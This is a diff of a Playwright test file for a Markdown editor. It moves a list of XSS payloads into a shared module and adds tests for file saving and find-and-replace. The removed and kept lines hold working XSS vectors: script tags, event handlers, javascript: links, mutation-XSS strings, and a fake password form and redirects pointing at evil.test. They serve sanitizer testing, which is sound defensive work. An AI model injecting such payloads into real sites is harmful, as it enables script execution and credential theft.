@@ -1,4 +1,8 @@
 import { expect, test, type Page } from '@playwright/test';
+import { HOSTILE_HTML } from '../../../lib/hostile-html';
+
+// A service worker would fetch what a test holds back.
+test.use({ serviceWorkers: 'block' });
 
 const area = (page: Page) => page.locator('textarea[name=input]');
 const preview = (page: Page) => page.locator('.preview');
@@ -16,28 +20,8 @@ async function wake(page: Page): Promise<void> {
   await expect(editor(page)).toBeVisible();
 }
 
-/**
- * Known ways to run a script, to load something or to stand for the page's own controls (OWASP's filter evasion cheat
- * sheet, DOMPurify's test suite and reports of mutation XSS), as raw HTML and as Markdown.
- */
-const PAYLOADS = [
-  '<script>window.hit=1</script>',
-  '<img src=x onerror="window.hit=1">',
-  '<svg onload="window.hit=1">',
-  '<svg><script>window.hit=1</script></svg>',
-  '<svg><animate onbegin="window.hit=1" attributeName=x dur=1s>',
-  '<math><mi//xlink:href="data:x,<script>window.hit=1</script>">',
-  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
-  '<iframe src="javascript:parent.hit=1"></iframe>',
-  '<object data="javascript:window.hit=1"></object>',
-  '<embed src="javascript:window.hit=1">',
-  '<body onload="window.hit=1">',
-  '<details open ontoggle="window.hit=1">x</details>',
-  '<video autoplay onloadstart="window.hit=1"><source src="x"></video>',
-  '<input autofocus onfocus="window.hit=1">',
-  '<a href="javascript:window.hit=1">x</a>',
-  '<a href="java\tscript:window.hit=1">x</a>',
-  '<a href="&#106;avascript:window.hit=1">x</a>',
+/** What Markdown itself could carry. */
+const MARKDOWN = [
   '[x](javascript:window.hit=1)',
   '[x](<java&#115;cript:window.hit=1>)',
   '<javascript:window.hit=1>',
@@ -46,27 +30,8 @@ const PAYLOADS = [
   '![x](x"onerror="window.hit=1)',
   '[x](https://a.bc/"onmouseover="window.hit=1)',
   '```"><img src=x onerror=window.hit=1>\nx\n```',
-  '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
-  '<style>body{display:none}</style>',
-  '<link rel="stylesheet" href="https://evil.test/x.css">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
-  '<base href="https://evil.test/">',
-  '<p style="position:fixed;inset:0" class="alert">x</p>',
-  '<div id="tool" class="primary">x</div>',
-  '<img name="getElementById" id="documentElement" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
-  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
-  '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
-  '<template><img src=x onerror=window.hit=1></template>',
-  '<textarea name="input">x</textarea><select name="view"><option value="write"></select>',
-  '<table background="https://evil.test/t.png"><tr><td background="https://evil.test/d.png">x</td></tr></table>',
-  '<img srcset="https://evil.test/s.png 1x" src="https://evil.test/i.png">',
-  '<picture><source srcset="https://evil.test/p.png"><img src="https://evil.test/q.png"></picture>',
-  '<audio src="https://evil.test/a.mp3" controls></audio>',
-  '<button popovertarget="palette" onclick="window.hit=1">x</button>',
-  '<label for="palette">x</label>',
 ];
+const PAYLOADS = [...HOSTILE_HTML, ...MARKDOWN];
 
 const LOADING = '[onload], [onerror], [onclick], [onfocus], [ontoggle], [onbegin], [onmouseover], [onloadstart]';
 const FORBIDDEN =
@@ -96,7 +61,7 @@ test('nothing that a text holds runs, loads, or stands for the page’s own cont
         ...element.classList,
       ])
         .flat()
-        .filter((value) => value !== '' && !/^(https?:|mailto:|data:image\/|language-|user-content-)/.test(value)),
+        .filter((value) => value !== '' && !/^(https?:|mailto:|data:image\/|#|language-|user-content-)/.test(value)),
     );
     expect(left, payload).toEqual([]);
     expect(await html(page).textContent(), payload).not.toMatch(
@@ -239,8 +204,15 @@ test('the draft is there after a reload and in another tab, until it is cleared'
   const other = await context.newPage();
   await open(other);
   await expect(preview(other)).toHaveText('my draft');
+  // A tab that holds the text keeps it, whatever another one erases.
+  await page.close();
   await other.getByRole('button', { name: 'Clear' }).click();
-  expect(await other.evaluate(() => localStorage.getItem('draft:markdown-editor'))).toBeNull();
+  await expect(preview(other)).toHaveText('');
+  await other.evaluate(() => sessionStorage.clear());
+  await other.reload();
+  await expect(other.locator('form#tool')).toHaveAttribute('data-state', 'empty');
+  await wake(other);
+  await expect(area(other)).toHaveValue('');
 });
 
 test('a link does not cost the draft', async ({ page }) => {
@@ -250,9 +222,6 @@ test('a link does not cost the draft', async ({ page }) => {
   await page.evaluate(() => (location.hash = 'input=linked'));
   await expect(area(page)).toHaveValue('linked');
   await area(page).fill('linked and changed');
-  await expect
-    .poll(() => page.evaluate(() => localStorage.getItem('draft:markdown-editor')))
-    .toBe('linked and changed');
   await page.getByRole('button', { name: 'Bring back my earlier draft' }).click();
   await expect(area(page)).toHaveValue('precious');
 });
@@ -275,7 +244,7 @@ test('rich text is pasted as Markdown, plain text as it is', async ({ page }) =>
     '<h2>T</h2><ul><li>a <b>b</b></li><li><input type=checkbox checked>c</li></ul><table><tr><th>x<th>y<tr><td>1<td>2</table><script>1</script>',
     'T',
   );
-  await expect(area(page)).toHaveValue('## T\n\n- a **b**\n- [x] c\n\n| x   | y   |\n| --- | --- |\n| 1   | 2   |');
+  await expect(area(page)).toHaveValue('## T\n\n- a **b**\n- [x] c\n\n| x | y |\n| - | - |\n| 1 | 2 |');
   await page.getByRole('button', { name: 'Clear' }).click();
   await paste('<span style="color:red">snake_case</span>', 'snake_case');
   await expect(area(page)).toHaveValue('snake_case');
@@ -295,6 +264,7 @@ test('a picture is kept in the text', async ({ page }) => {
 });
 
 test('files are opened, saved and exported', async ({ page }) => {
+  await page.addInitScript(() => delete window.showSaveFilePicker);
   await open(page);
   await page
     .locator('input[name=file]')
@@ -312,6 +282,49 @@ test('files are opened, saved and exported', async ({ page }) => {
   expect(whole.suggestedFilename()).toBe('my-page.html');
   const text = await (await whole.createReadStream()).toArray();
   expect(Buffer.concat(text).toString()).toMatch(/<title>My page<\/title>[^]*<h1>My <em>page<\/em><\/h1>/);
+});
+
+for (const [kind, before, after] of [
+  ['', '# Old\n', '# Old\nnew\n'],
+  [', with its line ends and byte order mark', '\uFEFF# Old\r\n\r\ntext\r\n', '\uFEFF# Old\r\n\r\ntext\r\nnew\r\n'],
+] as const) {
+  test(`Ctrl+S writes back to the file that was opened${kind}`, async ({ page }) => {
+    // A real file with a real handle, in the browser's own file system: its dialogs cannot be driven.
+    await page.addInitScript((content) => {
+      window.showOpenFilePicker = async () => {
+        const handle = await (await navigator.storage.getDirectory()).getFileHandle('notes.md', { create: true });
+        const stream = await handle.createWritable();
+        await stream.write(content);
+        await stream.close();
+        return [handle];
+      };
+    }, before);
+    await open(page);
+    await page.getByText('Open a file').click();
+    await expect(preview(page).locator('h1')).toHaveText('Old');
+    await wake(page);
+    await editor(page).click();
+    await page.keyboard.press('Control+End');
+    await page.keyboard.type('new');
+    await page.keyboard.press('Control+s');
+    await expect(page.getByText('Saved: notes.md')).toBeVisible();
+    const written = await page.evaluate(async () => {
+      const handle = await (await navigator.storage.getDirectory()).getFileHandle('notes.md');
+      // Blob.text() would leave the mark out.
+      return Array.from(new Uint8Array(await (await handle.getFile()).arrayBuffer()));
+    });
+    expect(Buffer.from(written)).toEqual(Buffer.from(after));
+  });
+}
+
+test('find and replace', async ({ page }) => {
+  await open(page, 'cat Cat');
+  await page.getByRole('button', { name: 'Find and replace' }).click();
+  await page.getByRole('textbox', { name: 'Find', exact: true }).fill('cat');
+  await page.getByRole('textbox', { name: 'Replace with' }).fill('dog');
+  await page.getByRole('button', { name: 'Replace all' }).click();
+  await expect(area(page)).toHaveValue('dog dog');
+  await expect(page.getByRole('checkbox', { name: 'Match case' })).toBeVisible();
 });
 
 test('the two sides scroll in step, by their headings', async ({ page }) => {
@@ -332,15 +345,14 @@ test('a text too long for a text area is in the editor, whole', async ({ page })
   await open(page);
   await wake(page);
   await area(page).fill(`# Long\n\n${'word '.repeat(20_000)}`);
-  await expect(page.locator('output[name=words]')).toHaveAttribute('data-value', '20001', { timeout: 20_000 });
+  await expect(page.locator('output[name=words]')).toHaveAttribute('data-value', '20001');
   await expect(editor(page)).toContainText('# Long');
   await page.locator('.source .cm-scroller').evaluate((box) => (box.scrollTop = 0));
   await editor(page).locator('.cm-line').first().click();
   await page.keyboard.press('Home');
   await page.keyboard.type('#');
-  await expect(preview(page).locator('h2')).toHaveText('Long', { timeout: 20_000 });
+  await expect(preview(page).locator('h2')).toHaveText('Long');
   await expect(editor(page)).toContainText('## Long');
-  await expect.poll(() => page.evaluate(() => localStorage.getItem('draft:markdown-editor')?.length)).toBe(100_009);
   await area(page).fill('short again');
   await expect(preview(page)).toHaveText('short again');
   await expect(editor(page)).toHaveText('short again');
